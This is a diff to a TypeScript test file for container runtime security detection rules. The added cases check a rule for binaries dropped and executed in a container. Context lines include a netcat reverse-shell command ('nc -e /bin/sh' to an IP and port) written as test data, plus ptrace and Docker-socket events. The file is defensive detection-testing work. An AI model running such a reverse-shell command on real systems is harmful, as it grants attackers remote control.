@@ -116,6 +116,12 @@ test('the default rules match what they are about, and not the ordinary', () => 
   assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } })), ['Netcat remote code execution']);
   assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-z', 'host', '80'] } })), []);
   assert.deepEqual(matching(set, event('ptrace', { request: 'PTRACE_ATTACH', targetPid: 77, ret: 0 })), ['Process attached with ptrace']);
+  // A binary the container's image does not have (its file in the overlay's upper layer), run in it.
+  const dropped = (proc: Record<string, unknown>, where: object = ctr) => event('exec', {}, { ...where, process: { pid: 9, comm: 'x', exe: '/tmp/x', argv: ['/tmp/x'], ...proc } });
+  assert.deepEqual(matching(set, dropped({ exeUpperLayer: true })), ['Drop and execute new binary in container']);
+  assert.deepEqual(matching(set, dropped({})), [], 'a file of the image');
+  assert.deepEqual(matching(set, dropped({ exeUpperLayer: true }, {})), [], 'on the host');
+  assert.deepEqual(matching(set, dropped({ exeUpperLayer: true, comm: 'dpkg' })), [], 'a package manager');
   // A container reaching for a runtime's API socket (mounted into it), whether or not the connect worked.
   const sock = (address: string, where: object = ctr, ret = 0) => event('connect', { family: 'AF_UNIX', remoteAddress: address, ret }, { ...where, process: { pid: 9, comm: 'curl' } });
   assert.deepEqual(matching(set, sock('/var/run/docker.sock')), ['Container runtime socket connected from a container']);
